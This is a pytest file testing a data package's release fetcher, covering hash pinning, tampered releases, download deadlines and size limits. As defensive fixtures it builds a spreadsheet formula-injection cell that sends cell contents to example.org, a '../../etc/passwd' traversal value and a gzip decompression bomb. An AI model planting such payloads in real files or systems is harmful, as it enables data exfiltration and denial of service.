"""Releases trusted because they are pinned, not because they are self-consistent; downloads bounded in time and
size. Every server here is a local one on 127.0.0.1 (see tests/test_fetch.py); nothing reaches the internet."""

from __future__ import annotations

import gzip
import io
import json
import shutil
import tarfile
import threading
import time
import tracemalloc
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from conftest import ROOT, copy_package
from test_fetch import VERSION, Server

import caucasus_data as cd
from caucasus_data.cli import main
from caucasus_data.release import IntegrityError
from caucasus_data.release import fetch as fetch_module
from caucasus_data.release.build import build_release
from caucasus_data.release.fetch import FetchError, UnpinnedError, manifest_sha256, pins
from caucasus_data.release.manifest import MANIFEST, read_manifest


def _assert_nothing_cached(cache: Path) -> None:
    """No release and no download left in the cache (validation's own notes may be there: same folder)."""
    assert not cache.exists() or [p.name for p in cache.iterdir() if p.name.startswith(("v", ".v"))] == []


@pytest.fixture
def cache(tmp_path, monkeypatch) -> Path:
    folder = tmp_path / "cache"
    monkeypatch.setenv(fetch_module.CACHE_VARIABLE, str(folder))
    monkeypatch.setenv("NO_PROXY", "127.0.0.1")
    monkeypatch.setattr(fetch_module, "RETRIES", 0)
    return folder


@pytest.fixture
def www(tmp_path, monkeypatch, cache):
    """An empty release host; a test publishes into ``server.root / vV``."""
    running = Server(tmp_path / "www")
    (tmp_path / "www").mkdir(exist_ok=True)
    monkeypatch.setenv(fetch_module.URL_VARIABLE, running.url)
    yield running
    running.stop()


def _tampered(tmp_path: Path, edit, version: str | None = None) -> Path:
    """A release rebuilt from an edited copy of the package: consistent with its own manifest, but not pinned."""
    package = copy_package(tmp_path / "tampered")
    edit(package)
    if version:
        path = package / "datapackage.json"
        path.write_text(path.read_text(encoding="utf-8").replace(f'"version": "{VERSION}"', f'"version": "{version}"'))
    return build_release(package, tmp_path / "tampered-release").out


def _retitle(package: Path) -> None:
    path = package / "curated/sources.csv"
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace("Quid pro quo in Turkish-Azerbaijani relations", "A different title", 1))


def _forge_formula(release: Path) -> None:
    """A formula cell written into the Parquet file by hand, with the manifest and archive made to agree."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    from caucasus_data.release.archive import archive_folder, write_archive
    from caucasus_data.release.manifest import file_sha256

    manifest = json.loads((release / MANIFEST).read_text(encoding="utf-8"))
    entry = next(f for f in manifest["files"] if f.get("table") == "sources")
    table = pq.read_table(release / entry["path"])
    titles = table.column("title").to_pylist()
    titles[0] = '=HYPERLINK("http://example.org/?"&A1,"open")'
    table = table.set_column(table.schema.get_field_index("title"), "title", pa.array(titles, pa.string()))
    pq.write_table(table, release / entry["path"])
    entry["bytes"], entry["sha256"] = (release / entry["path"]).stat().st_size, file_sha256(release / entry["path"])
    (release / MANIFEST).write_text(json.dumps(manifest, indent=2) + "\n", encoding="utf-8")
    members = [f["path"] for f in manifest["files"]] + [MANIFEST]
    write_archive(release, members, release / manifest["archive"], archive_folder(manifest["version"]))


def _retitled_release(tmp_path: Path, built_release: Path) -> Path:
    return _tampered(tmp_path, _retitle)


def _forged_release(tmp_path: Path, built_release: Path) -> Path:
    copy = tmp_path / "forged"
    shutil.copytree(built_release, copy)
    _forge_formula(copy)
    return copy


@pytest.mark.parametrize("make", [_retitled_release, _forged_release], ids=["rebuilt-title", "forged-formula"])
def test_a_self_consistent_but_unpinned_release_is_refused(www, cache, tmp_path, built_release, make, capsys):
    shutil.copytree(make(tmp_path, built_release), www.release())
    with pytest.raises(IntegrityError, match="not the manifest this installation pins"):
        cd.fetch()
    _assert_nothing_cached(cache)
    assert main(["fetch"]) == 1
    assert "pins" in capsys.readouterr().err
    with pytest.raises(IntegrityError):
        cd.load("sources", source="release")


def test_the_pinned_release_is_accepted(www, cache, built_release):
    shutil.copytree(built_release, www.release())
    assert cd.fetch() == cache / f"v{VERSION}"


def test_a_cached_release_that_is_not_the_pinned_one_is_never_used(www, cache, tmp_path, built_release):
    """A cache written by something else (or an older, unpinned fetch) is checked against the pin on use."""
    cache.mkdir()
    shutil.copytree(_tampered(tmp_path, _retitle), cache / f"v{VERSION}")
    shutil.copytree(built_release, www.release())
    folder = cd.fetch()
    assert manifest_sha256(folder) == pins()[VERSION]


def test_another_version_needs_a_pin_and_no_request_is_made_without_one(www, cache, tmp_path, capsys):
    other = _tampered(tmp_path, lambda p: None, version="0.0.9")
    shutil.copytree(other, www.release("0.0.9"))
    requests_seen: list[str] = []
    www.httpd.RequestHandlerClass.log_message = lambda self, *a: requests_seen.append(self.path)  # type: ignore[method-assign]
    with pytest.raises(UnpinnedError, match="not pinned by this installation"):
        cd.fetch("0.0.9")
    assert main(["fetch", "--version", "0.0.9"]) == 2
    assert "--pin" in capsys.readouterr().err
    assert requests_seen == []
    _assert_nothing_cached(cache)
    with pytest.raises(IntegrityError):
        cd.fetch("0.0.9", pin="0" * 64)
    _assert_nothing_cached(cache)
    folder = cd.fetch("0.0.9", pin=manifest_sha256(other))
    assert read_manifest(folder / MANIFEST).version == "0.0.9"
    assert main(["fetch", "--version", "0.0.9", "--pin", manifest_sha256(other)]) == 0


def test_a_pin_that_is_not_a_sha256_is_refused(cache):
    with pytest.raises(ValueError, match="not a sha256"):
        cd.fetch("0.0.9", pin="../../etc/passwd")


class _Trickle(BaseHTTPRequestHandler):
    """A server that answers every request with one byte every half second, for ever."""

    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Length", str(10**6))
        self.end_headers()
        try:
            for _ in range(600):
                self.wfile.write(b"{")
                self.wfile.flush()
                time.sleep(0.5)
        except OSError:
            pass

    def log_message(self, format, *args):
        pass


def test_a_trickling_server_is_cut_off_at_the_overall_deadline(cache, monkeypatch):
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), _Trickle)
    httpd.daemon_threads = True
    httpd.block_on_close = False  # the trickle goes on in its thread; closing the server does not wait for it
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    monkeypatch.setenv(fetch_module.URL_VARIABLE, f"http://127.0.0.1:{httpd.server_address[1]}")
    monkeypatch.setattr(fetch_module, "DEADLINE_SECONDS", 2)
    started = time.monotonic()
    try:
        with pytest.raises(FetchError, match="did not finish within 2 s"):
            cd.fetch()
    finally:
        httpd.shutdown()
        httpd.server_close()
    assert time.monotonic() - started < 15
    _assert_nothing_cached(cache)


def _bomb(archive: Path, prefix: str, name: str, size: int, others: dict[str, bytes]) -> None:
    """A valid .tar.gz whose member ``name`` inflates to ``size`` zero bytes (a few hundred KB compressed)."""
    with gzip.GzipFile(archive, "wb", compresslevel=1) as gz, tarfile.open(fileobj=gz, mode="w|") as tar:
        for member, data in others.items():
            info = tarfile.TarInfo(f"{prefix}/{member}")
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
        info = tarfile.TarInfo(f"{prefix}/{name}")
        info.size = size

        class Zeros(io.RawIOBase):
            left = size

            def readable(self):
                return True

            def readinto(self, buffer):
                n = min(len(buffer), self.left)
                buffer[:n] = bytes(n)
                self.left -= n
                return n

        tar.addfile(info, io.BufferedReader(Zeros(), 1 << 20))


def test_an_archive_member_larger_than_the_manifest_says_is_refused_before_it_is_inflated(www, cache, built_release):
    shutil.copytree(built_release, www.release())
    release = www.release()
    manifest = read_manifest(release / MANIFEST)
    prefix = f"caucasus-data-{VERSION}"
    victim = manifest.table("events").path
    others = {f.path: (release / f.path).read_bytes() for f in manifest.files if f.path != victim}
    others[MANIFEST] = (release / MANIFEST).read_bytes()
    _bomb(release / manifest.archive, prefix, victim, 256 << 20, others)
    tracemalloc.start()
    try:
        with pytest.raises(IntegrityError, match="the manifest says"):
            cd.fetch()
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 64 << 20, f"{peak >> 20} MB held while refusing the archive"
    _assert_nothing_cached(cache)


def test_an_archive_larger_than_its_manifest_allows_is_not_downloaded_to_the_end(www, cache, built_release):
    shutil.copytree(built_release, www.release())
    manifest = read_manifest(www.release() / MANIFEST)
    limit = fetch_module._archive_limit(manifest)
    (www.release() / manifest.archive).write_bytes(b"\x1f\x8b" + bytes(limit + 10))
    with pytest.raises(IntegrityError, match="sends more than"):
        cd.fetch()
    _assert_nothing_cached(cache)


# -- the pin, and the locked build that reproduces it -----------------------------------------------------------


def test_the_committed_pin_is_what_a_fresh_build_of_this_package_gives(built_release):
    built = manifest_sha256(built_release)
    assert pins() == {VERSION: built}, (
        f"src/caucasus_data/release/registry.txt pins {pins()}, a fresh build of the package gives "
        f"{VERSION}: {built}. Rebuild and rewrite the pin with `python tools/pin_release.py` (installed with "
        "the locked dependencies: pip install -c requirements/release.txt -e .)"
    )


def test_the_pin_is_shipped_in_the_package(root):
    import tomllib

    config = tomllib.loads((root / "pyproject.toml").read_text(encoding="utf-8"))
    assert config["tool"]["hatch"]["build"]["targets"]["wheel"]["packages"] == ["src/caucasus_data"]
    assert fetch_module.REGISTRY.is_relative_to(Path(fetch_module.__file__).resolve().parents[1])
    assert fetch_module.REGISTRY.is_file()


def test_the_release_workflow_builds_with_locked_dependencies_and_checks_the_pin(root):
    lock = root / "requirements" / "release.txt"
    pinned = [line for line in lock.read_text(encoding="utf-8").splitlines() if line and not line.startswith("#")]
    assert all("==" in line for line in pinned)
    names = {line.split("==")[0].lower() for line in pinned}
    assert {"pyarrow", "pandas", "numpy", "frictionless", "pydantic", "pooch"} <= names
    workflow = (root / ".github/workflows/release.yml").read_text(encoding="utf-8")
    assert "-c requirements/release.txt" in workflow
    assert "tools/pin_release.py --check" in workflow
    assert "-c requirements/release.txt" in (root / ".ci/run").read_text(encoding="utf-8")


def test_the_readme_says_what_the_pin_covers():
    text = (ROOT / "README.md").read_text(encoding="utf-8")
    assert "pin" in text and "manifest" in text and "tools/pin_release.py" in text
    json.dumps(pins())  # the registry parses
